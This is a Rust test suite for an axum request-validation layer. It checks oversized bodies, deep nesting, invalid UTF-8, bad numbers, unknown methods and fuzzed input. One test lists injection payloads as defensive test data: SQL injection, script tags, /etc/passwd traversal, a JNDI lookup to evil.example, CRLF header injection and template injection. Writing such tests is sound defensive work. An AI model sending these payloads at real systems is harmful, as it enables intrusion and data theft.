//! Hostile input for ValidateLayer and Valid<Json<T>>: huge and endless bodies, absurd nesting,
//! invalid UTF-8, numbers JSON cannot hold, injection strings, unknown methods over a real socket,
//! and property tests that arbitrary bytes never get a 5xx or a panic.

mod common;

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use axum::body::Body;
use axum::routing::post;
use axum::{Json, Router};
use bytes::Bytes;
use common::*;
use http::Request;
use portcullis::{Valid, ValidateLayer};
use proptest::prelude::*;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use validator::Validate;

#[derive(Debug, Deserialize, Serialize, Validate)]
struct Profile {
    #[validate(custom(function = "portcullis::validate::identifier"))]
    user: String,
    #[validate(custom(function = "portcullis::validate::slug"))]
    handle: String,
    #[validate(
        length(min = 1, max = 100),
        custom(function = "portcullis::validate::safe_line")
    )]
    name: String,
    #[validate(custom(function = "portcullis::validate::https_url"))]
    homepage: Option<String>,
    #[validate(custom(function = "portcullis::validate::iso_date"))]
    birthday: Option<String>,
    #[validate(range(max = 1000))]
    count: Option<u32>,
    #[validate(range(min = -1.0, max = 1.0))]
    ratio: Option<f64>,
    data: Option<Value>,
}

fn profile() -> Value {
    json!({ "user": "ada_1", "handle": "ada-lovelace", "name": "Ada" })
}

fn app(layer: ValidateLayer) -> Router {
    Router::new()
        .route(
            "/profiles",
            post(|Valid(Json(profile)): Valid<Json<Profile>>| async move {
                (http::StatusCode::CREATED, Json(profile))
            }),
        )
        .layer(layer)
}

fn post_json(body: impl Into<Body>) -> Request<Body> {
    Request::post("/profiles")
        .header("content-type", "application/json")
        .body(body.into())
        .unwrap()
}

fn code(answer: &Answer) -> &str {
    answer.body["errors"][0]["code"]
        .as_str()
        .unwrap_or_default()
}

#[tokio::test]
async fn ten_megabyte_bodies_are_413_declared_or_streamed_without_being_buffered() {
    let app = app(ValidateLayer::new());
    let huge = vec![b'['; 10 * 1024 * 1024];
    let request = Request::post("/profiles")
        .header("content-type", "application/json")
        .header("content-length", huge.len())
        .body(Body::from(huge))
        .unwrap();
    send(&app, request).await.problem(413, "payload-too-large");

    // A chunked body of 10 MB in 64 KiB chunks: reading stops just past the 1 MiB limit.
    let polled = Arc::new(AtomicUsize::new(0));
    let counter = polled.clone();
    let chunks = futures_util::stream::iter((0..160).map(move |_| {
        counter.fetch_add(64 * 1024, Ordering::SeqCst);
        Ok::<_, std::io::Error>(Bytes::from(vec![b' '; 64 * 1024]))
    }));
    let request = Request::post("/profiles")
        .header("content-type", "application/json")
        .body(Body::from_stream(chunks))
        .unwrap();
    send(&app, request).await.problem(413, "payload-too-large");
    let read = polled.load(Ordering::SeqCst);
    assert!(read <= 1024 * 1024 + 64 * 1024, "read {read} bytes");
}

#[tokio::test]
async fn absurd_nesting_is_refused_fast_and_never_overflows_the_stack() {
    let app = app(ValidateLayer::new());
    for deep in [
        "[".repeat(100_000),
        format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)),
        format!("{}1{}", "{\"a\":".repeat(100_000), "}".repeat(100_000)),
        format!(
            r#"{{"user":"a","handle":"a","name":"a","data":{}}}"#,
            "[{\"x\":".repeat(50_000)
        ),
    ] {
        let answer = send(&app, post_json(deep)).await;
        answer.problem(400, "bad-request");
        assert_eq!(code(&answer), "too_deep");
    }
    // Brackets inside strings are text, not nesting.
    let mut body = profile();
    body["data"] = json!("[".repeat(100_000));
    assert_eq!(send(&app, post_json(body.to_string())).await.status, 201);
}

#[tokio::test]
async fn the_deepest_configurable_nesting_parses_on_a_small_stack() {
    let app = app(ValidateLayer::builder()
        .max_json_depth(100)
        .build()
        .unwrap());
    // 99 arrays inside the top-level object: depth 100 exactly.
    let data = format!("{}{}", "[".repeat(99), "]".repeat(99));
    let body = format!(r#"{{"user":"a","handle":"a","name":"a","data":{data}}}"#);
    // Half the 2 MiB stack of a tokio worker, in an unoptimized build (about 4 KiB a level;
    // release builds need far less).
    let answer = std::thread::Builder::new()
        .stack_size(1024 * 1024)
        .spawn(move || {
            tokio::runtime::Builder::new_current_thread()
                .build()
                .unwrap()
                .block_on(send(&app, post_json(body)))
        })
        .unwrap()
        .join()
        .unwrap();
    assert_eq!(answer.status, 201, "{}", answer.text);
}

#[tokio::test]
async fn invalid_utf8_is_400_wherever_it_is() {
    let app = app(ValidateLayer::new());
    for body in [
        &b"{\"user\":\"\xff\",\"handle\":\"a\",\"name\":\"a\"}"[..],
        b"\xfe\xff{}",
        b"{\"user\":\"\xc0\xaf\"}",     // overlong '/'
        b"{\"user\":\"\xed\xa0\x80\"}", // an encoded surrogate
        b"{\"user\":\"a\xe2\x82\"}",    // truncated sequence
    ] {
        let answer = send(&app, post_json(Bytes::from_static(body))).await;
        answer.problem(400, "bad-request");
        assert_eq!(code(&answer), "invalid_utf8", "{body:?}");
    }
    // An escaped lone surrogate is valid UTF-8 but not a valid JSON string.
    let answer = send(
        &app,
        post_json(r#"{"user":"\ud800","handle":"a","name":"a"}"#),
    )
    .await;
    answer.problem(400, "bad-request");
}

#[tokio::test]
async fn numbers_json_cannot_hold_are_400_and_numbers_the_type_cannot_hold_422() {
    let app = app(ValidateLayer::new());
    for (field, raw, status) in [
        ("ratio", "NaN", 400),
        ("ratio", "Infinity", 400),
        ("ratio", "-Infinity", 400),
        ("ratio", "1e400", 400),
        ("ratio", "-1e400", 400),
        ("ratio", "0x10", 400),
        ("ratio", "01", 400),
        // Well-formed JSON numbers that a `u32` cannot hold: content, like a failed rule.
        ("count", "4294967296", 422),
        ("count", "18446744073709551616", 422),
        ("count", "1.5", 422),
        ("count", "-1", 422),
        ("count", "1e3", 422),
    ] {
        let body = format!(r#"{{"user":"a","handle":"a","name":"a","{field}":{raw}}}"#);
        let answer = send(&app, post_json(body)).await;
        let kind = if status == 400 {
            "bad-request"
        } else {
            "unprocessable-content"
        };
        answer.problem(status, kind);
        let reported = answer.body["errors"][0]["field"].as_str().unwrap();
        assert!(
            reported.is_empty() || reported == format!("/{field}"),
            "{raw}: {reported}"
        );
    }
    // In range and finite: accepted; out of range: 422.
    let mut body = profile();
    body["ratio"] = json!(1e-300);
    assert_eq!(send(&app, post_json(body.to_string())).await.status, 201);
    body["ratio"] = json!(1.5);
    send(&app, post_json(body.to_string()))
        .await
        .problem(422, "unprocessable-content");
}

#[tokio::test]
async fn injection_strings_in_validated_fields_are_422_and_never_echoed() {
    let app = app(ValidateLayer::new());
    let payloads = [
        "'; DROP TABLE users;--",
        "<script>alert(1)</script>",
        "../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "a\r\nSet-Cookie: session=evil",
        "admin\u{0}",
        "\u{202E}fdp.exe",
        "{{7*7}}",
        "-rf",
    ];
    for payload in payloads {
        for field in ["user", "handle", "homepage", "birthday"] {
            let mut body = profile();
            body[field] = json!(payload);
            let answer = send(&app, post_json(body.to_string())).await;
            answer
                .problem(422, "unprocessable-content")
                .leaks_nothing_of(payload.trim_start_matches('-'));
            assert_eq!(answer.body["errors"][0]["field"], format!("/{field}"));
        }
    }
    // A free-text name takes markup as plain text (encoding output is the renderer's job) but
    // never control or bidi-override characters.
    for payload in ["<script>alert(1)</script>", "'; DROP TABLE users;--"] {
        let mut body = profile();
        body["name"] = json!(payload);
        let answer = send(&app, post_json(body.to_string())).await;
        assert_eq!(answer.status, 201);
        assert_eq!(answer.body["name"], payload);
    }
    for payload in [
        "a\r\nSet-Cookie: x",
        "admin\u{0}",
        "\u{202E}fdp.exe",
        "\u{1b}[2J",
    ] {
        let mut body = profile();
        body["name"] = json!(payload);
        send(&app, post_json(body.to_string()))
            .await
            .problem(422, "unprocessable-content");
    }
    // Member names are input too: a huge unknown one is reported cut short.
    let mut body = profile();
    body[&"k".repeat(100_000)] = json!(1);
    let answer = send(&app, post_json(body.to_string())).await;
    answer.problem(422, "unprocessable-content");
    assert!(answer.text.len() < 1000, "{} bytes", answer.text.len());
}

#[tokio::test]
async fn unknown_methods_over_a_real_socket_get_405() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    let router = Router::new()
        .fallback(move || async move {
            counter.fetch_add(1, Ordering::SeqCst);
            "handled"
        })
        .layer(ValidateLayer::new());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let server = tokio::spawn(async move { axum::serve(listener, router).await });
    for method in ["FOO", "TRACE", "BREW", "GET"] {
        let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
        let request =
            format!("{method} / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
        stream.write_all(request.as_bytes()).await.unwrap();
        let mut response = String::new();
        stream.read_to_string(&mut response).await.unwrap();
        if method == "GET" {
            assert!(response.starts_with("HTTP/1.1 200"), "{response}");
        } else {
            assert!(response.starts_with("HTTP/1.1 405"), "{method}: {response}");
            assert!(
                response
                    .to_ascii_lowercase()
                    .contains("\r\nallow: get, head, post")
            );
            assert!(response.contains("application/problem+json"));
        }
    }
    assert_eq!(hits.load(Ordering::SeqCst), 1);
    server.abort();
}

// ---------------------------------------------------------------------------------------------
// Property tests: the same parser, under `cargo test` (the fuzz target covers it further).

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap()
}

/// Sends `body` and checks the answer is a 201 or a 4xx problem+json that echoes nothing.
fn check(app: &Router, rt: &tokio::runtime::Runtime, content_type: &str, body: Vec<u8>) -> u16 {
    let request = Request::post("/profiles")
        .header("content-type", content_type)
        .body(Body::from(body))
        .unwrap();
    let answer = rt.block_on(send(app, request));
    let status = answer.status.as_u16();
    assert!(
        matches!(status, 201 | 400 | 413 | 415 | 422),
        "status {status}: {}",
        answer.text
    );
    if status != 201 {
        assert_eq!(answer.headers["content-type"], "application/problem+json");
        assert!(answer.text.len() < 16 * 1024, "oversized error body");
    }
    status
}

/// JSON values shaped like the target type, with real and made-up member names, so generated
/// bodies get past the parser into deserialization and validation.
fn jsonish() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|n| json!(n)),
        any::<f64>().prop_map(|n| json!(n)),
        ".{0,40}".prop_map(Value::String),
        "[a-z0-9-]{1,12}".prop_map(Value::String),
    ];
    let name = prop_oneof![
        Just("user".to_owned()),
        Just("handle".to_owned()),
        Just("name".to_owned()),
        Just("count".to_owned()),
        Just("ratio".to_owned()),
        Just("data".to_owned()),
        Just("homepage".to_owned()),
        ".{0,12}",
    ];
    leaf.prop_recursive(6, 64, 8, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..8).prop_map(Value::Array),
            prop::collection::btree_map(name.clone(), inner, 0..8)
                .prop_map(|map| Value::Object(map.into_iter().collect())),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn arbitrary_bytes_never_get_a_5xx_or_a_panic(body in prop::collection::vec(any::<u8>(), 0..4096)) {
        let app = app(ValidateLayer::builder().max_body_bytes(2048).build().unwrap());
        check(&app, &runtime(), "application/json", body);
    }

    #[test]
    fn arbitrary_json_never_gets_a_5xx_or_a_panic(value in jsonish()) {
        let app = app(ValidateLayer::builder().max_json_depth(4).build().unwrap());
        check(&app, &runtime(), "application/json", value.to_string().into_bytes());
    }

    #[test]
    fn json_with_a_byte_flipped_never_gets_a_5xx(index in any::<prop::sample::Index>(), byte in any::<u8>()) {
        let mut body = profile();
        body["data"] = json!({"a": [1, 2.5, "x", null, {"b": true}]});
        let mut bytes = body.to_string().into_bytes();
        let at = index.index(bytes.len());
        bytes[at] = byte;
        check(&app(ValidateLayer::new()), &runtime(), "application/json", bytes);
    }

    #[test]
    fn arbitrary_content_types_are_415_unless_json(content_type in "[ -~]{0,60}") {
        let app = app(ValidateLayer::new());
        let status = check(&app, &runtime(), &content_type, profile().to_string().into_bytes());
        let is_json = content_type
            .split(';')
            .next()
            .is_some_and(|essence| essence.trim().eq_ignore_ascii_case("application/json"));
        if !is_json {
            prop_assert_eq!(status, 415);
        }
    }
}

/// A member the target type keeps as raw text (a stored webhook): serde_json checks its syntax
/// but does not decode its names, so a lone surrogate in one gets through to the handler.
#[derive(Debug, Deserialize, Validate)]
struct Hook {
    #[allow(dead_code)]
    payload: Box<serde_json::value::RawValue>,
}

/// Issue #16: the pre-check stopped at the first member name it could not decode and let the
/// rest of the document through unchecked (duplicates, depth). Such a name is now refused.
#[tokio::test]
async fn an_undecodable_member_name_is_refused_and_does_not_switch_off_the_checks() {
    let calls = Arc::new(AtomicUsize::new(0));
    let counter = calls.clone();
    let app = Router::new()
        .route(
            "/hooks",
            post(move |Valid(Json(_)): Valid<Json<Hook>>| {
                counter.fetch_add(1, Ordering::SeqCst);
                async { "stored" }
            }),
        )
        .layer(ValidateLayer::new());
    let deep = format!("{}{}", "[".repeat(40), "]".repeat(40));
    for (body, field) in [
        (
            r#"{"payload":{"\ud800":0,"a":1,"a":2}}"#.to_owned(),
            "/payload",
        ),
        (
            format!(r#"{{"payload":{{"\udfff":0,"d":{deep}}}}}"#),
            "/payload",
        ),
        (r#"{"\udbff":1,"payload":1,"payload":2}"#.to_owned(), ""),
    ] {
        let request = Request::post("/hooks")
            .header("content-type", "application/json")
            .body(Body::from(body.clone()))
            .unwrap();
        let answer = send(&app, request).await;
        answer.problem(400, "bad-request");
        assert_eq!(code(&answer), "invalid_key", "{body}");
        assert_eq!(answer.body["errors"][0]["field"], field, "{body}");
    }
    // Decodable names still reach the handler.
    let request = Request::post("/hooks")
        .header("content-type", "application/json")
        .body(Body::from(r#"{"payload":{"\ud83d\ude00":0,"b":[1]}}"#))
        .unwrap();
    assert_eq!(send(&app, request).await.status, 200);
    assert_eq!(calls.load(Ordering::SeqCst), 1);
}
